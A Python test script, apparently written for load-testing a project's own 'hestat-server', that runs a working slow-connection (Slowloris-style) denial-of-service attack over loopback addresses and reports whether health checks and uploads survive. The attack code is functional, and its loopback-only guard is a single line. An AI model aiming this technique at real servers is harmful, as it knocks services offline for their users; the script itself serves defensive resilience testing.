#!/usr/bin/env python3
"""Slow-connection attack on hestat-server (issue 10, item 4), for measuring.

Opens --connections connections spread over several loopback source
addresses (all of 127.0.0.0/8 is this machine), each sending half a request
line and then one more header byte every --interval seconds, never finishing
its headers; a connection the server closes is opened again at once, as an
attacker would. Meanwhile, from 127.0.0.1, it asks GET /health every few
seconds and uploads a table (when --token-file, --study-id and --table are
given), and reports whether they succeeded and how long they took.

Traffic goes to the --server address only; use it on loopback.

  scripts/attack-slow.py --server http://127.0.0.1:8750 --token-file token.txt \
      --study-id ID --table t1.hst --connections 1100 --sources 11 --duration 60

Python 3 standard library only.
"""
import argparse
import http.client
import os
import resource
import selectors
import socket
import sys
import time
import urllib.parse

HEAD = b"GET /health HTTP/1.1\r\nHost: victim\r\nX-Slow: "


def raise_fd_limit(need):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = hard if hard != resource.RLIM_INFINITY else max(need, soft)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


class Attacker:
    """Slow connections from several source addresses, reopened when closed."""

    def __init__(self, host, port, count, sources, reopen_delay):
        self.host, self.port = host, port
        self.reopen_delay = reopen_delay
        self.waiting = []  # (time, source): closed slots to open again
        self.sources = ["127.0.%d.%d" % (i // 250, 2 + i % 250) for i in range(sources)]
        self.sel = selectors.DefaultSelector()
        self.socks = {}  # socket -> (source, opened at)
        self.count = count
        self.opened = self.closed_by_server = self.connect_failures = 0
        self.lifetimes = []

    def open_one(self, source):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((source, 0))
            s.setblocking(False)
            s.connect_ex((self.host, self.port))
        except OSError:
            s.close()
            self.connect_failures += 1
            return
        self.socks[s] = (source, time.monotonic())
        self.sel.register(s, selectors.EVENT_READ)
        self.opened += 1

    def fill(self):
        """Opens the initial connections, then the closed ones once their delay passed."""
        if not self.opened:
            for i in range(self.count):
                self.open_one(self.sources[i % len(self.sources)])
            return
        now = time.monotonic()
        due = [src for t, src in self.waiting if t <= now]
        self.waiting = [(t, src) for t, src in self.waiting if t > now]
        for src in due:
            self.open_one(src)

    def held(self, age):
        """Connections the server has kept open for at least age seconds."""
        now = time.monotonic()
        return sum(1 for _, t0 in self.socks.values() if now - t0 >= age)

    def drop(self, s, reopen=True):
        src, t0 = self.socks.pop(s)
        self.lifetimes.append(time.monotonic() - t0)
        self.sel.unregister(s)
        s.close()
        if reopen:
            self.waiting.append((time.monotonic() + self.reopen_delay, src))

    def send_byte(self, first):
        for s in list(self.socks):
            try:
                s.send(HEAD[:14] if first else b"a")
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                self.closed_by_server += 1
                self.drop(s)

    def poll(self, timeout):
        for key, _ in self.sel.select(timeout):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                self.closed_by_server += 1
                self.drop(s)

    def close(self):
        for s in list(self.socks):
            self.drop(s, reopen=False)


def timed_health(host, port):
    t0 = time.monotonic()
    try:
        c = http.client.HTTPConnection(host, port, timeout=10, source_address=("127.0.0.1", 0))
        c.request("GET", "/health")
        status = c.getresponse().status
        c.close()
    except OSError as e:
        status = "error: %s" % e
    return status, time.monotonic() - t0


def timed_upload(host, port, token, study, table):
    t0 = time.monotonic()
    try:
        size = os.path.getsize(table)
        c = http.client.HTTPConnection(host, port, timeout=60, source_address=("127.0.0.1", 0))
        with open(table, "rb") as f:
            c.request("POST", "/studies/%s/tables" % study, body=f,
                      headers={"Authorization": "Bearer " + token, "Content-Length": str(size)})
            r = c.getresponse()
            status, body = r.status, r.read().decode(errors="replace")
        c.close()
    except OSError as e:
        status, body = "error: %s" % e, ""
    return status, time.monotonic() - t0, body


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--server", required=True, help="http://HOST:PORT (loopback)")
    ap.add_argument("--connections", type=int, default=1100)
    ap.add_argument("--sources", type=int, default=11, help="source addresses 127.0.0.2, 127.0.0.3, ...")
    ap.add_argument("--interval", type=float, default=30.0, help="seconds between trickled bytes")
    ap.add_argument("--duration", type=float, default=60.0)
    ap.add_argument("--reopen-delay", type=float, default=1.0, help="seconds before a closed connection is reopened")
    ap.add_argument("--token-file")
    ap.add_argument("--study-id")
    ap.add_argument("--table", help="a table file to upload during the attack")
    a = ap.parse_args()
    u = urllib.parse.urlparse(a.server)
    host, port = u.hostname, u.port
    if not host.startswith("127."):
        sys.exit("attack-slow.py: loopback servers only")
    limit = raise_fd_limit(a.connections + 64)
    if limit < a.connections + 32:
        sys.exit("attack-slow.py: only %d file descriptors" % limit)
    token = open(a.token_file).read().strip() if a.token_file else None

    atk = Attacker(host, port, a.connections, a.sources, a.reopen_delay)
    start = time.monotonic()
    atk.fill()
    atk.poll(0.5)
    atk.send_byte(first=True)
    next_byte = time.monotonic() + a.interval
    next_probe = time.monotonic() + 2
    health, uploads, held = [], [], []
    while time.monotonic() - start < a.duration:
        atk.poll(0.2)
        atk.fill()
        now = time.monotonic()
        if now >= next_byte:
            atk.send_byte(first=False)
            next_byte = now + a.interval
        if now >= next_probe:
            held.append(atk.held(2.0))
            health.append(timed_health(host, port))
            due = now - start > a.duration / 3 * (len(uploads) + 1)
            if token and a.study_id and a.table and len(uploads) < 2 and due:
                uploads.append(timed_upload(host, port, token, a.study_id, a.table))
            next_probe = time.monotonic() + 3
    atk.poll(0.5)
    atk.close()

    ok = [t for s, t in health if s == 200]
    print("attack: %d connections from %d addresses (%s..%s), a byte every %.0f s, reopened %.1f s after a close,"
          " for %.0f s" % (a.connections, a.sources, atk.sources[0], atk.sources[-1], a.interval, a.reopen_delay,
                           a.duration))
    print("attack: %d connections opened, %d closed by the server, %d connect failures"
          % (atk.opened, atk.closed_by_server, atk.connect_failures))
    if atk.lifetimes:
        lt = sorted(atk.lifetimes)
        print("attack: connection lifetime median %.1f s, max %.1f s" % (lt[len(lt) // 2], lt[-1]))
    if held:
        print("attack: connections the server held open for 2 s or more, at the probes: min %d, max %d"
              % (min(held), max(held)))
    print("/health: %d of %d succeeded%s" % (len(ok), len(health),
          ", latency max %.0f ms, median %.0f ms" % (max(ok) * 1e3, sorted(ok)[len(ok) // 2] * 1e3) if ok else ""))
    for s, t in health:
        if s != 200:
            print("/health failed: %s after %.1f s" % (s, t))
    for s, t, body in uploads:
        print("upload: %s in %.0f ms %s" % (s, t * 1e3, body.strip()[:120]))
    good = len(ok) == len(health) and all(s in (201, 409) for s, _, _ in uploads)
    print("verdict: %s" % ("the server kept serving" if good else "the attack denied service"))
    return 0 if good else 1


if __name__ == "__main__":
    sys.exit(main())
